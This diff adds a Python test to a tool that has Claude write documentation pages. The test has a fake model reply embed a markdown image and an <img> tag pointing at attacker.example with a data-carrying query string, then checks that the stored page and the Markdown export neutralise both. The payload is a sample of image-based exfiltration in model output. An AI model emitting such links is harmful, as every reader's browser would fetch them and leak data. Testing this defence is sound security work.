@@ -298,6 +298,23 @@ def test_prose_is_written_once_and_a_changed_file_marks_exactly_its_pages_stale(
 
 
 
+def test_written_prose_loads_no_image_in_the_app_or_the_export(index: api.Index, settings: Settings,
+                                                               fake_anthropic, tmp_path: Path) -> None:
+    """Claude's prose is stored and shown to every later reader of the page: an image in it was fetched by each
+    browser that opened the Guide page, and by any viewer of the exported Markdown (`<img>` too)."""
+    config = Settings.from_env(home=settings.home, api_key="sk-test", base_url=fake_anthropic.url,
+                               model="claude-sonnet-test")
+    fake_anthropic.state.reply = ("The toolkit shouts. ![x](https://attacker.example/p.png?d=1) "
+                                  "<img src=https://attacker.example/q.png>")
+    guide = api.guide_for(index)
+    assert api.write_guide(index, guide, config, ["pkg-toolkit"]).written == ["pkg-toolkit"]
+    shown = api.guide_markdown(guide, guide.page("pkg-toolkit"), lambda p, s, e: p, lambda slug: slug, True)
+    assert "The toolkit shouts. [x](https://attacker.example/p.png?d=1) &lt;img src=" in shown
+    CliRunner().invoke(cli, ["guide", "toolkit", "--out", str(tmp_path / "out"), "--home", str(settings.home)])
+    exported = (tmp_path / "out" / "packages" / "pkg-toolkit.md").read_text()
+    assert "The toolkit shouts." in exported and "![" not in exported and "<img" not in exported
+
+
 def test_reindex_rewrites_only_the_pages_claude_wrote_whose_files_changed(
         index: api.Index, toolkit: Path, settings: Settings, fake_anthropic) -> None:
     """A reindex with a key keeps Claude's pages fresh: only those resting on a changed file are asked
